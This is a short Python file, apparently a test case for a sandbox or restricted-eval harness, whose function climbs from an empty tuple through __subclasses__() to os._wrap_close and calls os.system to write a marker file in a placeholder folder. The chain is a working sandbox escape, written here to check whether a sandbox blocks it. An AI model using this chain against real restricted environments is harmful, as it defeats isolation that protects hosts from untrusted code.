"""Reach os.system from an empty tuple and leave a file.

See: https://nedbatchelder.com/blog/201206/eval_really_is_dangerous.html
Layers: main bare
Control: witness
"""


def attempt():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            cls.__init__.__globals__["system"]("echo x > @OPEN_FOLDER@/left")
    return 0.0
